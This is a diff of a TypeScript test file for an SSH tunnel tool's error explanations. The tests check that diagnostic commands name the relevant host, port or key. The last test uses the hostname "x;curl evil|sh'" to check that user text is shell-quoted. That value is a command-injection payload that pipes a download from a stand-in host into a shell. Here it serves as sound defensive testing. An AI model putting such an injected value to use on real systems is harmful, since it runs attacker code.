@@ -1,4 +1,4 @@
-// For every error there is something to do, said of the very host, port or file that is at fault.
+// The explanation of every error: steps that name the host, port or file concerned.
 import assert from 'node:assert/strict';
 import { describe, it } from 'mocha';
 import { connectionCodes, finalCodes, retryableCodes } from '../../../src/tunnels/errors/errors';
@@ -29,12 +29,12 @@ function textOf(error: TunnelError, circumstances: Circumstances): string {
   return steps.flatMap(({ text, code }) => [text, code ?? '']).join('\n');
 }
 
-describe('an explanation', () => {
+describe('the explanation of an error', () => {
   for (const code of codes) {
-    it(`of ${code} has steps on every system, with and without facts`, () => {
+    it(`has steps for ${code} on every platform, with a known destination and without`, () => {
       for (const platform of platforms) {
         for (const circumstances of [on(platform), { platform, destination: undefined }]) {
-          const { steps, actions } = explain(failure(code, 'It failed.', 'Mend it.'), circumstances);
+          const { steps, actions } = explain(failure(code, 'It failed.', 'Fix it.'), circumstances);
           assert.ok(steps.length > 0 && actions.length > 0);
           for (const { text, code: command } of steps) {
             assert.match(text, /^[A-Z"].*[.:]$/s, text);
@@ -49,7 +49,7 @@ describe('an explanation', () => {
 const address = { host: 'db.example.org', port: 2022 };
 const key = { type: 'ssh-ed25519', fingerprint: 'SHA256:abc' };
 
-describe('an explanation names', () => {
+describe('the explanation of an error', () => {
   const cases: readonly (readonly [error: TunnelError, ...named: readonly string[]])[] = [
     [reaching.hostNotFound('stagign'), 'stagign'],
     [reaching.connectionRefused(address), 'db.example.org', '2022'],
@@ -81,8 +81,8 @@ describe('an explanation names', () => {
     [login.passwordExpired('me@staging'), 'me@staging', 'ssh -p 2222 me@staging'],
     [login.tooManyAuthenticationFailures('me@staging', []), 'me@staging', 'IdentitiesOnly yes'],
     [login.authenticationCancelled('me@staging', 'a password'), 'me@staging'],
-    [login.keyUnreadable('/k', 'it is damaged', 'Mend it.'), 'ssh-keygen -y -f /k'],
-    [login.keyUnsupported('/k', 'it is odd', 'Mend it.'), 'ssh-keygen -p -f /k'],
+    [login.keyUnreadable('/k', 'it is damaged', 'Fix it.'), 'ssh-keygen -y -f /k'],
+    [login.keyUnsupported('/k', 'it is odd', 'Fix it.'), 'ssh-keygen -p -f /k'],
     [login.agentUnavailable('/agent.sock'), '/agent.sock'],
     [hostKeys.hostKeyUnknown('[db]:2022', key), '[db]:2022', 'ssh-keygen -lf'],
     [
@@ -117,7 +117,7 @@ describe('an explanation names', () => {
     [permission.workspaceUntrusted('staging'), 'Trust'],
   ];
   for (const [error, ...named] of cases) {
-    it(`${named.join(' and ')} for ${error.code}`, () => {
+    it(`names ${named.join(', ')} for ${error.code}`, () => {
       const text = textOf(error, on('linux'));
       for (const name of named) {
         assert.ok(text.includes(name), `${name} in\n${text}`);
@@ -125,14 +125,14 @@ describe('an explanation names', () => {
     });
   }
 
-  it('the command of the system it runs on', () => {
+  it('names the command of the platform on which it is shown', () => {
     const error = forwarding.addressInUse({ host: '127.0.0.1', port: 5432 });
     assert.match(textOf(error, on('darwin')), /lsof -nP -iTCP:5432/);
     assert.match(textOf(error, on('win32')), /netstat -ano \| findstr :5432/);
   });
-  it('the lines of sshd_config for a port or a socket of the server', () => {
+  it('names the lines of sshd_config for a refused port or socket of the server', () => {
     const facts: ErrorFacts = { host: 'bastion' };
-    const error = failure('RemoteListenRefused', 'It did not.', 'Mend it.', undefined, facts);
+    const error = failure('RemoteListenRefused', 'It did not.', 'Fix it.', undefined, facts);
     const remote = {
       kind: 'remote',
       target: { host: 'localhost', port: 3000 },
@@ -151,8 +151,8 @@ describe('an explanation names', () => {
   });
 });
 
-describe('the target of a remote forward', () => {
-  it('is looked at on this machine, which dials it', () => {
+describe('the explanation of a failed remote forward', () => {
+  it('has steps on this machine for a failed target, which this machine dials', () => {
     const forward = {
       kind: 'remote',
       listen: { bind: undefined, port: 9000 },
@@ -175,7 +175,7 @@ describe('the target of a remote forward', () => {
     const refused = textOf(targetsHere.targetHereRefused('localhost:3000'), on('darwin', { forward }));
     assert.match(refused, /^lsof -nP -iTCP:3000/m);
   });
-  it('may not be listened for: the server has to allow it', () => {
+  it('names PermitListen for a listener that the server does not permit', () => {
     const listen = { bind: undefined, port: 9000 };
     const error = remoteListening.remoteListenNotPermitted(listen, 'bastion');
     const forward = { kind: 'remote', listen, target: undefined, label: 'R', ifPortBusy: 'fail' } as const;
@@ -183,8 +183,8 @@ describe('the target of a remote forward', () => {
   });
 });
 
-describe('a command to be copied', () => {
-  it('keeps what others wrote one word', () => {
+describe('a command in an explanation', () => {
+  it('quotes the text of others as one word', () => {
     const nasty = reaching.hostNotFound("x;curl evil|sh'");
     assert.match(textOf(nasty, on('linux')), /^getent hosts 'x;curl evil\|sh'\\'''$/m);
     assert.match(textOf(nasty, on('win32')), /^nslookup "x;curl evil\|sh'"$/m);
